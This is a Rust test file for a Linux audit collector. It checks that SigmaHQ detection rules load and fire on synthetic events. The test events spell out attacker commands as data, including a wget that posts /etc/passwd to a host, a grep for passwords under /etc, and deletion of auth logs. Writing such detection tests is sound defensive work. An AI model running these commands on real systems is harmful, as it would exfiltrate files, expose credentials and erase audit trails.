//! SigmaHQ's rules for Linux, which are not part of Foil: name a copy of `rules/linux` by `FOIL_SIGMAHQ`.

mod sigma_support;

use foil_collector::rules::RuleSet;
use foil_collector::{Event, audit};
use foil_record::Attribution;
use std::path::PathBuf;

fn sigmahq() -> Option<RuleSet> {
    let Some(folder) = std::env::var_os("FOIL_SIGMAHQ") else {
        println!("skipped: FOIL_SIGMAHQ names no folder of SigmaHQ's Linux rules");
        return None;
    };
    Some(RuleSet::read(&[PathBuf::from(folder)]).expect("the folder is read"))
}

fn event(kind: &str, fields: &[(&str, &str)]) -> Event {
    let common = [("success", "yes"), ("uid", "0"), ("pid", "4000000"), ("ppid", "4000001"), ("records", "SYSCALL")];
    let fields = common.iter().chain(fields).map(|(name, value)| ((*name).to_owned(), (*value).to_owned()));
    Event {
        sequence: 1,
        at: 1,
        kind: kind.to_owned(),
        attribution: Attribution::Tree,
        own_observation: false,
        fields: fields.collect(),
    }
}

fn exec(exe: &str, argv: &str) -> Event {
    let words: Vec<&str> = argv.split(' ').collect();
    let numbered: Vec<(String, &str)> = words.iter().enumerate().map(|(n, word)| (format!("a{n}"), *word)).collect();
    let mut fields =
        vec![("records", "SYSCALL EXECVE CWD PATH PROCTITLE"), ("exe", exe), ("argv", argv), ("path", exe)];
    fields.extend(numbered.iter().map(|(name, word)| (name.as_str(), *word)));
    event("execve", &fields)
}

#[test]
fn every_rule_is_read() {
    let Some(rules) = sigmahq() else { return };
    assert!(rules.rules().len() > 100, "{} rules", rules.rules().len());
    assert_eq!(rules.problems(), []);
    // Most are about what the kernel records; the others wait for a followed log of their name.
    let feeds = [audit::NAME, "file.sshd", "file.syslog", "file.clamav", "file.vsftpd"].map(str::to_owned);
    assert!(rules.idle(&feeds[..1]).values().sum::<usize>() >= 4);
    let idle: Vec<String> = rules.idle(&feeds).keys().map(ToString::to_string).collect();
    assert_eq!(idle, [""; 0]);
}

#[test]
fn rules_match_what_they_are_for_and_not_a_near_miss() {
    let Some(rules) = sigmahq() else { return };
    let opened =
        |path: &str| event("openat", &[("records", "SYSCALL CWD PATH"), ("path", path), ("nametype", "NORMAL")]);
    let created = |exe: &str, path: &str| event("openat", &[("exe", exe), ("path", path), ("a2", "241")]);
    for (rule, hit, miss) in [
        ("lnx_auditd_ld_so_preload_mod", opened("/etc/ld.so.preload"), opened("/etc/ld.so.conf")),
        (
            "lnx_auditd_chattr_immutable_removal",
            exec("/usr/bin/chattr", "chattr -i /x"),
            exec("/usr/bin/chattr", "chattr +a /x"),
        ),
        ("lnx_auditd_user_discovery", exec("/usr/bin/whoami", "whoami"), exec("/usr/bin/true", "true")),
        (
            "lnx_auditd_find_cred_in_files",
            exec("/bin/grep", "grep -r password /etc"),
            exec("/bin/grep", "grep -r name /etc"),
        ),
        (
            "lnx_auditd_hidden_files_directories",
            exec("/usr/bin/touch", "touch /tmp/.x"),
            exec("/usr/bin/touch", "touch /tmp/x"),
        ),
        (
            "lnx_auditd_data_exfil_wget",
            exec("/usr/bin/wget", "wget --post-file=/etc/passwd h"),
            exec("/usr/bin/wget", "wget h"),
        ),
        (
            "proc_creation_lnx_base64_decode",
            exec("/usr/bin/base64", "base64 -d x"),
            exec("/usr/bin/base64", "base64 x"),
        ),
        ("proc_creation_lnx_clear_logs", exec("/bin/rm", "rm /var/log/auth.log"), exec("/bin/rm", "rm /tmp/auth.log")),
        (
            "file_event_lnx_doas_conf_creation",
            created("/usr/bin/cp", "/etc/doas.conf"),
            created("/usr/bin/cp", "/etc/doas.conf.d"),
        ),
        (
            "file_event_lnx_wget_download_file_in_tmp_dir",
            created("/usr/bin/wget", "/tmp/x"),
            created("/usr/bin/curl", "/tmp/x"),
        ),
    ] {
        if !rules.rules().iter().any(|loaded| loaded.file_name() == format!("{rule}.yml")) {
            println!("skipped: {rule} is not in this copy");
            continue;
        }
        let names = |event: &Event| sigma_support::matching(&rules, std::slice::from_ref(event));
        assert!(names(&hit).iter().any(|name| name == rule), "{rule} matches; {:?} do", names(&hit));
        assert!(names(&miss).iter().all(|name| name != rule), "{rule} does not match");
    }
}
